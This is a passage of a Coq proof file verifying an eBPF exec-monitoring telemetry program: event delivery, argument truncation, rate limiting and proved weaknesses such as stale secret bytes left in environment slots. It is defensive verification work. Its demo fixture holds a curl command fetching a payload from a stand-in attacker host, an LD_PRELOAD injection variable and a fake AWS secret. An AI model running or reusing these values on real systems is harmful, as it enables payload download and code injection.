    change (ee_capture_status (set_filename buf t)) with (ee_capture_status t). by rewrite Hbit. }
  split_and!; try done.
  - unfold is_execveat. rewrite B2. change (ee_flags (set_filename buf t)) with (ee_flags t). rewrite K2. by destruct at_.
  - by rewrite B4.
  - by rewrite B5.
  - by apply Hu.
  - by apply Hu.
  - by rewrite B12.
  - by rewrite C2.
  - intros j a Hj Hja. rewrite C5. by apply A3.
  - rewrite <- A4. unfold argv_truncated_of, field_unknown. by rewrite C3, C4, C6.
  - by rewrite Hs, (env_read_stable k Hk _ _ Henvs).
Qed.
End delivered.

(** The two string fields of the telemetry event. *)
Lemma string_field_cstr s bit status :
  Z.land status bit = 0 → cstr_bytes (string_field s bit status) = cstr_bytes s.
Proof.
  intros H. unfold string_field, status_bit. rewrite H. rewrite bool_decide_eq_true_2 by done. simpl.
  assert (length (cstr_bytes s) ≤ length s)%nat as Hl by (unfold cstr_bytes; rewrite length_take; lia).
  rewrite length_zeroed, Nat.min_l, take_ge by lia. unfold copy_into, zeroed. rewrite drop_replicate.
  fold (zeroed (length s - length (cstr_bytes s))). unfold cstr_bytes at 1.
  rewrite position_or_len_pad, take_app_length by (done || apply position_or_len_notin). done.
Qed.

Lemma cmdline_words e args :
  event_typed e → ee_argv_len e = Z.of_nat (Nat.min (length args) MAX_ARGS_CAPTURE) →
  (∀ j a, (j < Nat.min (length args) MAX_ARGS_CAPTURE)%nat → args !! j = Some a →
     cstr_bytes (argv_slot (ee_argv e) j) = take 31 a) →
  let t := exec_event_to_security_telemetry e in
  format_argv_cmdline (se_argv t) (se_argv_len t) = cmdline_of args.
Proof.
  intros He Hn Hs. destruct (typed_arr_field e 18 256 (ee_argv e) He eq_refl) as [Hl _].
  unfold exec_event_to_security_telemetry, argv_field. destruct (env_field e) as [[? ?] ?].
  rewrite Hn. set (n := Nat.min (length args) MAX_ARGS_CAPTURE) in *.
  replace (Nat.min (Z.to_nat (Z.of_nat n)) MAX_ARGS_CAPTURE) with n by (unfold n; lia). cbn [se_argv se_argv_len].
  rewrite format_argv_cmdline_spec.
  2:{ rewrite length_copy_into; rewrite length_zeroed; [done|]. rewrite length_take. lia. }
  replace (Nat.min (Z.to_nat (Z.of_nat n)) MAX_ARGS_CAPTURE) with n by (unfold n; lia).
  unfold cmdline_of, slot_words. do 2 f_equal. f_equal.
  assert (take MAX_ARGS_CAPTURE args = take n args) as -> by (symmetry; apply take_min_length).
  apply list_eq. intros j. rewrite !list_lookup_fmap. destruct (decide (j < n)%nat) as [Hj|Hj].
  - rewrite lookup_seq_lt, lookup_take_lt by done. simpl.
    destruct (lookup_lt_is_Some_2 args j) as [a Ha]; [unfold n in Hj; lia|]. rewrite Ha. simpl. f_equal.
    rewrite <- (Hs j a Hj Ha). unfold slot_text. f_equal.
    apply (env_slot_copied (ee_argv e) n j Hl). unfold n, MAX_ENV_CAPTURE, MAX_ARGS_CAPTURE in *. lia.
  - by rewrite lookup_seq_ge, lookup_take_ge by lia.
Qed.

(** C20: an execution traced by either program arrives at the agent as it was made. The
    caller's path, argument and environment strings are readable and do not change while the
    program reads them, the path of an execveat is not empty, the rate limit admits the call
    and the ring has room. Then exactly one record is added; the agent decodes its bytes to
    the event that was written, marked allowed and with the system call it came from; its
    telemetry has the caller's process id, the first 255 bytes of the path and the command
    line of the first eight arguments, each up to 31 bytes. The truncation flag is set
    exactly when more than eight arguments were passed or one of the first eight has at
    least 31 bytes: whenever an argument was cut, and also for one that just fills its slot.
    A path cut at 255 bytes is not flagged. *)
Theorem exec_delivered {R} `{RB : RingBuf ExecEvent R} `{!RingBufLaws ExecEvent R}
    k at_ path args envs m (ring : R) :
  kernel_ok k → reads_string k AtFilename (path_arg at_ k) path → (at_ = true → path ≠ []) →
  user_strings k AtArgvPtr AtArgvStr (argv_arg at_ k) args →
  user_strings k AtEnvPtr AtEnvStr (envp_arg at_ k) envs →
  (rate_limit_allow (ktime_rate k) m).2 = true → rb_reserve ring = true →
  ∃ e, rb_events (exec_program at_ k m ring).2 = rb_events ring ++ [e] ∧
    (exec_program at_ k m ring).1 = (rate_limit_allow (ktime_rate k) m).1 ∧
    ringbuf_decode_exec_event (exec_event_bytes e) = Some e ∧
    is_execveat e = at_ ∧ ee_enforcement_action e = ENFORCEMENT_ALLOWED ∧
    let t := exec_event_to_security_telemetry e in
    se_pid t = as_uint 32 (Z.shiftr (get_current_pid_tgid k) 32) ∧
    cstr_bytes (se_filename t) = take 255 path ∧
    format_argv_cmdline (se_argv t) (se_argv_len t) = cmdline_of args ∧
    se_argv_truncated t = bool_decide (args_unproven args) ∧
    (args_cut args → se_argv_truncated t = true).
Proof.
  intros Hk Hp Hne Ha He Hrate Hroom.
  destruct (exec_record_stable k Hk at_ path args envs Hp Hne Ha He)
    as (e & Hr & Ht & Hv & Hat & Hact & Hpid & Htg & Hfn & Hname & Hn & Hs & Hcut & _).
  exists e. rewrite exec_program_cases. unfold emit_exec_event.
  destruct (rate_limit_allow _ _) as [m' b]. simpl in Hrate. subst b. rewrite Hroom, Hr. simpl.
  split_and!; try done.
  - apply rb_submit_events.
  - rewrite <- (app_nil_r (exec_event_bytes e)). by apply decode_encoded.
  - unfold exec_event_to_security_telemetry. destruct (argv_field e), (env_field e) as [[? ?] ?]. simpl.
    by rewrite Htg.
  - unfold exec_event_to_security_telemetry. destruct (argv_field e), (env_field e) as [[? ?] ?]. simpl.
    rewrite string_field_cstr; [done|]. unfold field_unknown in Hfn. by apply negb_false_iff, bool_decide_eq_true in Hfn.
  - by apply cmdline_words.
  - unfold exec_event_to_security_telemetry. destruct (argv_field e), (env_field e) as [[? ?] ?]. done.
  - intros Hc%cut_unproven. unfold exec_event_to_security_telemetry. destruct (argv_field e), (env_field e) as [[? ?] ?]. simpl.
    by rewrite Hcut, bool_decide_eq_true_2.
Qed.

(** ** A kernel to run the programs on

    Strings are copied as the helpers copy them: what follows the NUL in the buffer
    stays. *)
Definition sim_copy (s dst : bytes) : Z * bytes :=
  match dst with
  | [] => (0, [])
  | _ => let n := Nat.min (length s) (length dst - 1) in
         (Z.of_nat n + 1, take n s ++ 0 :: drop (n + 1) dst)
  end.

Definition sim_strings (base : Z) (strs : list bytes) (i : nat) : Z :=
  if bool_decide (i < length strs)%nat then base + Z.of_nat i else 0.

Definition sim_kernel (at_ : bool) (pid_tgid uid_gid now : Z) (path : bytes) (args envs : list bytes) : KernelEnv := {|
  trace_args := if at_ then [3; 100; 200; 300; 0] else [100; 200; 300];
  get_current_pid_tgid := pid_tgid;
  get_current_uid_gid := uid_gid;
  get_current_task := 1;
  get_current_comm := λ dst, (0, take (length dst) (lit "bash" ++ zeroed (length dst)));
  core_read := λ _ _, Some 1;
  probe_read_kernel_str := λ _ dst, sim_copy (lit "cri-containerd-1.scope") dst;
  probe_read_user := λ st _,
    match st with
    | AtArgvPtr i => Some (sim_strings 1000 args i)
    | AtEnvPtr i => Some (sim_strings 2000 envs i)
    | _ => None
    end;
  probe_read_user_str := λ st _ dst,
    match st with
    | AtFilename => sim_copy path dst
    | AtArgvStr i => sim_copy (nth i args []) dst
    | AtEnvStr i => sim_copy (nth i envs []) dst
    | _ => (-1, dst)
    end;
  ktime_rate := now;
  ktime_event := now;
  probe_stack := zeroed MAX_ENV_STR_LEN
|}.

Definition cstring (s : bytes) : Prop := 0 ∉ s ∧ Forall is_byte s.

Lemma cstring_lit s : bool_decide (0 ∈ lit s) = false → cstring (lit s).
Proof. intros H%bool_decide_eq_false. split; [done|apply lit_is_byte]. Qed.

Lemma sim_copy_read s dst : cstring s → Forall is_byte dst → string_read dst (sim_copy s dst).
Proof.
  intros [H0 Hs] Hd. unfold sim_copy, string_read. destruct dst as [|c dst]; [simpl; split_and!; [done|done|lia]|].
  set (n := Nat.min (length s) (length (c :: dst) - 1)). cbn [fst snd].
  assert (length (take n s) = n) as Hn by (rewrite length_take; unfold n; lia). split_and!.
  - rewrite length_app, Hn. cbn [length]. rewrite length_drop. cbn [length]. unfold n. simpl. lia.
  - apply Forall_app_2; [by apply Forall_take|]. apply Forall_cons_2; [done|by apply Forall_drop].
  - intros _. split; [unfold n; simpl; lia|].
    assert (0 ∉ take n s) as Hz by (intros Hz; apply H0; rewrite <- (take_drop n s); apply elem_of_app; by left).
    rewrite position_or_len_app by done. rewrite position_or_len_cons_eq, Hn. lia.
Qed.

Lemma sim_copy_spec s dst :
  cstring s → dst ≠ [] →
  let r := sim_copy s dst in
  r.1 = Z.min (Z.of_nat (length s) + 1) (Z.of_nat (length dst)) ∧
  take (Z.to_nat (r.1 - 1)) r.2 = take (length dst - 1) s.
Proof.
  intros Hs Hne. destruct dst as [|c dst]; [done|]. unfold sim_copy. cbv zeta.
  set (n := Nat.min (length s) (length (c :: dst) - 1)). cbn [fst snd]. split; [unfold n; simpl; lia|].
  replace (Z.to_nat (Z.of_nat n + 1 - 1)) with (length (take n s)) by (rewrite length_take; unfold n; lia).
  rewrite take_app_length. unfold n. apply take_min_length.
Qed.

Section sim.
Context (at_ : bool) (pid_tgid uid_gid now : Z) (path : bytes) (args envs : list bytes).
Context (Hnow : uint 64 now) (Hpath : cstring path) (Hargs : Forall cstring args) (Henvs : Forall cstring envs).
Abbreviation k := (sim_kernel at_ pid_tgid uid_gid now path args envs).

Lemma cstring_nth strs i : Forall cstring strs → cstring (nth i strs []).
Proof.
  intros H. destruct (nth_in_or_default i strs []) as [Hin|Hd]; [|rewrite Hd; split; [set_solver|constructor]].
  rewrite Forall_forall in H. by apply H, list_elem_of_In.
Qed.

Lemma sim_kernel_ok : kernel_ok k.
Proof.
  constructor; cbn [sim_kernel get_current_comm core_read probe_read_kernel_str probe_read_user_str ktime_rate
    ktime_event probe_stack]; try done.
  - intros dst _. cbn [snd]. split; [rewrite length_take, length_app, length_zeroed; simpl; lia|].
    apply Forall_take, Forall_app_2; [apply lit_is_byte|apply Forall_byte_zeroed].
  - by intros f p v [= <-] _.
  - intros p dst Hd. apply sim_copy_read; [|done]. by apply cstring_lit.
  - intros st p dst Hd. destruct st; try (by apply sim_copy_read; auto using cstring_nth);
      (split_and!; [done|done|simpl; lia]).
  - split; [done|apply Forall_byte_zeroed].
Qed.

Lemma sim_reads st (p : Z) s :
  p ≠ 0 → cstring s → (∀ dst, probe_read_user_str k st p dst = sim_copy s dst) → reads_string k st p s.
Proof.
  intros Hp Hs Hr. split; [done|]. split; [apply Hs|]. intros dst _ Hne. cbv zeta. rewrite Hr.
  by apply sim_copy_spec.
Qed.

Lemma sim_path : reads_string k AtFilename (path_arg at_ k) path.
Proof. apply sim_reads; [by destruct at_|done|done]. Qed.

Lemma sim_user_strings ptr str base b strs :
  base ≠ 0 → 0 < b → Forall cstring strs →
  (∀ i q, probe_read_user k (ptr i) q = Some (sim_strings b strs i)) →
  (∀ i q dst, probe_read_user_str k (str i) q dst = sim_copy (nth i strs []) dst) →
  user_strings k ptr str base strs.
Proof.
  intros Hb Hpos Hs Hp Hr. split_and!; [done| |].
  - intros i s Hi. rewrite Hp. eexists. split; [done|]. unfold sim_strings.
    pose proof (lookup_lt_Some _ _ _ Hi). rewrite bool_decide_eq_true_2 by done.
    apply sim_reads; [lia| |].
    + rewrite Forall_forall in Hs. by eapply Hs, list_elem_of_lookup_2.
    + intros dst. rewrite Hr. by rewrite (nth_lookup_Some _ _ _ _ Hi).
  - rewrite Hp. unfold sim_strings. by rewrite bool_decide_eq_false_2 by lia.
Qed.

Lemma sim_args : user_strings k AtArgvPtr AtArgvStr (argv_arg at_ k) args.
Proof. apply (sim_user_strings _ _ _ 1000); [by destruct at_|lia|done..]. Qed.
Lemma sim_envs : user_strings k AtEnvPtr AtEnvStr (envp_arg at_ k) envs.
Proof. apply (sim_user_strings _ _ _ 2000); [by destruct at_|lia|done..]. Qed.
End sim.

(** ** Witnesses and further behaviour *)
Lemma rate_limit_bounds_witness :
  let '(m, bs) := rate_run [1000; 1000; 1500; 4000] cpu_maps_new in
  admitted bs ≤ MAX_TOKENS + (4000 - 1000) / NS_PER_TOKEN ∧ RLIMIT_DROPS m = Some (refused bs).
Proof.
  assert (H := rate_limit_bounds 1000 [1000; 1500; 4000]).
  destruct (rate_run _ _) as [m bs]. destruct H as (H1 & _ & H2 & _).
  - lia.
  - repeat constructor; lia.
  - repeat constructor; lia.
  - simpl. lia.
  - split; [exact H1|exact H2].
Defined.

Definition demo_path : bytes := lit "/usr/bin/curl".
Definition demo_args : list bytes := [lit "curl"; lit "-s"; lit "http://evil.example/a/very/long/payload"].
Definition demo_envs : list bytes := [lit "LD_PRELOAD=/tmp/x.so"; lit "AWS_SECRET=wJalrXUtnFEMIK7MDENG"; lit "PATH=/"].
Definition demo_kernel : KernelEnv :=
  sim_kernel false (7 * 2 ^ 32 + 9) (1000 * 2 ^ 32 + 1000) 5000 demo_path demo_args demo_envs.

Lemma demo_cstrings : cstring demo_path ∧ Forall cstring demo_args ∧ Forall cstring demo_envs.
Proof. split_and!; repeat first [apply Forall_cons_2 | apply Forall_nil_2 | apply cstring_lit; vm_compute; reflexivity]. Qed.

Lemma exec_delivered_witness :
  ∃ e, rb_events (exec_program false demo_kernel cpu_maps_new (mkSimRing [] 4)).2 = [e] ∧
    se_pid (exec_event_to_security_telemetry e) = 7 ∧
    se_argv_truncated (exec_event_to_security_telemetry e) = true.
Proof.
  destruct demo_cstrings as (Hp & Ha & Hv).
  destruct (exec_delivered demo_kernel false demo_path demo_args demo_envs cpu_maps_new (mkSimRing [] 4))
    as (e & H1 & _ & _ & _ & _ & H2 & _ & _ & H3 & _).
  - by apply sim_kernel_ok.
  - by apply sim_path.
  - done.
  - by apply sim_args.
  - by apply sim_envs.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - exists e. split; [exact H1|]. split; [exact H2|]. rewrite H3. vm_compute. reflexivity.
Defined.

(** The record of that execution. *)
Definition demo_record : option ExecEvent :=
  exec_record demo_kernel (path_arg false demo_kernel) (argv_arg false demo_kernel) (envp_arg false demo_kernel) 0.

Lemma env_export_allowlisted_witness :
  ∃ e, demo_record = Some e ∧ env_words e = [lit "LD_PRELOAD=/tmp/x.so"] ∧
    format_env_slots (se_env (exec_event_to_security_telemetry e)) (se_env_len (exec_event_to_security_telemetry e))
    = join_words (env_words e).
Proof.
  destruct demo_cstrings as (Hp & Ha & Hv).
  destruct demo_record as [e|] eqn:E; [|vm_compute in E; discriminate E]. exists e. split; [reflexivity|].
  assert (kernel_ok demo_kernel) as Hk by (by apply sim_kernel_ok).
  destruct (env_export_allowlisted demo_kernel _ _ _ 0 e Hk ltac:(lia) E) as [H _].
  split; [|exact H]. vm_compute in E. injection E as <-. vm_compute. reflexivity.
Defined.

(** The user-space readers take the first [env_len] slots, while the program fills the
    slot of each name: a variable in a slot at or above the number of variables captured
    is in the record and is not exported. Here [PATH], captured in slot 3 of a record of
    two variables. *)
Theorem captured_path_not_exported :
  ∃ e, demo_record = Some e ∧ ee_env_len e = 2 ∧ slot_texts e !! 3%nat = Some (lit "PATH=/") ∧
    env_words e = [lit "LD_PRELOAD=/tmp/x.so"].
Proof.
  destruct demo_record as [e|] eqn:E; [|vm_compute in E; discriminate E].
  exists e. vm_compute in E. injection E as <-. split_and!; vm_compute; reflexivity.
Qed.

(** The scan's buffer is not cleared between entries, so that a slot can hold, after the
    NUL of its own text, bytes of an entry that is not on the allowlist. *)
Theorem slot_keeps_stale_bytes :
  ∃ e, demo_record = Some e ∧
    drop 7 (env_slot (ee_env e) 3) = lit "RET=wJalrXUtnFEMIK7MDENG" ++ [0].
Proof.
  destruct demo_record as [e|] eqn:E; [|vm_compute in E; discriminate E].
  exists e. vm_compute in E. injection E as <-. split; vm_compute; reflexivity.
Qed.

(** The process id of a record is the caller's thread group, and its field [tgid] the
    caller's thread. *)
Theorem tgid_is_the_thread k fp ap ep fl e tgid tid :
  kernel_ok k → uint 8 fl → exec_record k fp ap ep fl = Some e →
  get_current_pid_tgid k = tgid * 2 ^ 32 + tid → uint 32 tgid → uint 32 tid →
  ee_pid e = tgid ∧ ee_tgid e = tid.
Proof.
  intros Hk Hfl Hr Hp Htg Htid.
  destruct (exec_record_inv k Hk _ _ _ _ _ Hfl Hr) as (e0 & H0 & _ & _ & _ & Hh & _).
  apply capture_filename_kind in H0. rewrite capture_task_kind in H0. unfold record_kind in H0.
  injection H0 as _ _ _ _ K5 K6 _.
  assert (ee_pid (mark_path_from_fd fl e0) = ee_pid e0 ∧ ee_tgid (mark_path_from_fd fl e0) = ee_tgid e0) as [M1 M2]
    by (unfold mark_path_from_fd; by destruct (_ && _)).
  unfold head_of in Hh. injection Hh as _ _ _ _ -> _ -> _. rewrite M1, M2, K5, K6, Hp. split.
  - rewrite Z.shiftr_div_pow2, Z.div_add_l, Z.div_small, Z.add_0_r by lia. by apply as_uint_small.
  - unfold as_uint. by rewrite Z.add_comm, Z.mod_add, Z.mod_small by lia.
Qed.

Section accounting.
Context {R : Type} `{RB : RingBuf ExecEvent R} `{!RingBufLaws ExecEvent R}.

(** What one invocation leaves: a record, a counted rate drop, a counted capture
    failure, or, when the ring is full, nothing at all. *)
Theorem exec_accounted at_ k m (ring : R) :
  let '(m', ring') := exec_program at_ k m ring in
  let '(m1, ok) := rate_limit_allow (ktime_rate k) m in
  if negb ok then ring' = ring ∧ RLIMIT_DROPS m' = record_counter (RLIMIT_DROPS m) ∧ CAPTURE_FAILS m' = CAPTURE_FAILS m
  else RLIMIT_DROPS m' = RLIMIT_DROPS m ∧
    if negb (rb_reserve ring) then ring' = ring ∧ CAPTURE_FAILS m' = CAPTURE_FAILS m
    else match exec_record k (path_arg at_ k) (argv_arg at_ k) (envp_arg at_ k) (syscall_flags at_) with
         | None => ring' = ring ∧ CAPTURE_FAILS m' = record_counter (CAPTURE_FAILS m)
         | Some e => rb_events ring' = rb_events ring ++ [e] ∧ CAPTURE_FAILS m' = CAPTURE_FAILS m
         end.
Proof.
  assert (∀ m1 ok, rate_limit_allow (ktime_rate k) m = (m1, ok) → CAPTURE_FAILS m1 = CAPTURE_FAILS m ∧
    RLIMIT_DROPS m1 = if ok then RLIMIT_DROPS m else record_counter (RLIMIT_DROPS m)) as Hrate.
  { intros m1 ok. unfold rate_limit_allow. destruct (RLIMIT_BUCKET m); [case_bool_decide|]; by intros [= <- <-]. }
  rewrite exec_program_cases. unfold emit_exec_event. destruct (rate_limit_allow _ _) as [m1 ok] eqn:E.
  destruct (Hrate m1 ok eq_refl) as [Hf Hd]. destruct ok; simpl; [|done].
  destruct (rb_reserve ring); simpl; [|done]. destruct (exec_record _ _ _ _ _); simpl; [|by rewrite Hf].
  split_and!; [done|apply rb_submit_events|done].
Qed.
End accounting.

(** An execution named by a descriptor alone is recorded under the sentinel. *)
Theorem empty_path_is_unknown k ap ep fp e e0 :
  kernel_ok k → exec_record k fp ap ep EXEC_FLAG_SYSCALL_EXECVEAT = Some e →
  capture_filename k fp (capture_task k EXEC_FLAG_SYSCALL_EXECVEAT) = Some e0 →
  char_at (ee_filename e0) 0 0 = true →
  path_from_fd e = true ∧ is_execveat e = true ∧ cstr_bytes (ee_filename e) = UNKNOWN_SENTINEL ∧
  field_unknown e CAPTURE_FILENAME = true.
Proof.
  intros Hk Hr Hf Hc. destruct (exec_record_inv k Hk _ _ _ EXEC_FLAG_SYSCALL_EXECVEAT _ ltac:(done) Hr)
    as (e1 & H1 & _ & _ & _ & Hh & _). rewrite Hf in H1. injection H1 as <-.
  pose proof (capture_filename_kind _ _ _ _ Hf) as Hkd. rewrite capture_task_kind in Hkd.
  unfold record_kind in Hkd. injection Hkd as _ K2 _ _ _ _ _.
  unfold mark_path_from_fd in Hh. rewrite Hc in Hh. simpl in Hh. unfold head_of in Hh.
  injection Hh as _ B2 _ _ _ _ _ _ _ _ _ B12 _ _ _ B16. simpl in *.
  unfold path_from_fd, is_execveat, field_unknown. rewrite B2, K2. split_and!; try done.
  - by rewrite B12.
  - rewrite (masked_bit _ _ _ CAPTURE_FILENAME B16) by done. rewrite Z.land_lor_distr_l.
    destruct (bool_decide _) eqn:E; [|done]. apply bool_decide_eq_true, Z.lor_eq_0_iff in E as [_ E].
    vm_compute in E. discriminate E.
Qed.

(** ** The ceiling over all CPUs

    The bucket is a per-CPU map, so each CPU has its own: together they admit as many
    bursts as there are CPUs. *)
Definition cpus_admitted (calls : list (list Z)) : Z :=
  foldr (λ ts n, admitted (rate_run ts cpu_maps_new).2 + n) 0 calls.

Lemma rate_burst n t m s :
  RLIMIT_BUCKET m = Some s → last_ns s = t → 0 < t → Z.of_nat n ≤ tokens s →
  admitted (rate_run (replicate n t) m).2 = Z.of_nat n.
Proof.
  revert m s. induction n as [|n IH]; intros m s Hs Hl Ht Hn; [done|]. cbn [replicate rate_run].
  unfold rate_limit_allow. rewrite Hs. unfold rate_init. rewrite (bool_decide_eq_false_2 (last_ns s = 0)) by lia.
  unfold rate_refill. rewrite Hl, Z.sub_diag. change (as_uint 64 0) with 0.
  rewrite (bool_decide_eq_false_2 (NS_PER_TOKEN ≤ 0)) by (unfold NS_PER_TOKEN; lia). cbv zeta.
  rewrite (bool_decide_eq_false_2 (tokens s = 0)) by lia.
  match goal with |- context [rate_run _ ?m1] => specialize (IH m1 _ eq_refl Hl Ht); destruct (rate_run _ m1) as [m2 bs] end.
  cbn [snd tokens] in IH |- *. rewrite admitted_cons, IH by lia. lia.
Qed.

Theorem ceiling_is_per_cpu cpus t :
  0 < t → cpus_admitted (replicate cpus (replicate (Z.to_nat MAX_TOKENS) t)) = Z.of_nat cpus * MAX_TOKENS.
Proof.
  intros Ht. induction cpus as [|c IH]; [done|]. cbn [replicate cpus_admitted foldr].
  fold (cpus_admitted (replicate c (replicate (Z.to_nat MAX_TOKENS) t))). rewrite IH.
  assert (admitted (rate_run (replicate (Z.to_nat MAX_TOKENS) t) cpu_maps_new).2 = MAX_TOKENS) as ->; [|lia].
  replace (Z.to_nat MAX_TOKENS) with (S (Z.to_nat (MAX_TOKENS - 1))) by (unfold MAX_TOKENS; lia).
  cbn [replicate rate_run].
  destruct (rate_first t cpu_maps_new (mkRateLimitState 0 0)) as (m1 & -> & Hs & _); [done..|].
  pose proof (rate_burst (Z.to_nat (MAX_TOKENS - 1)) t m1 _ Hs eq_refl Ht) as H.
  destruct (rate_run _ m1) as [m2 bs]. cbn [snd tokens] in H |- *.
  rewrite admitted_cons, H; unfold MAX_TOKENS; lia.
Qed.
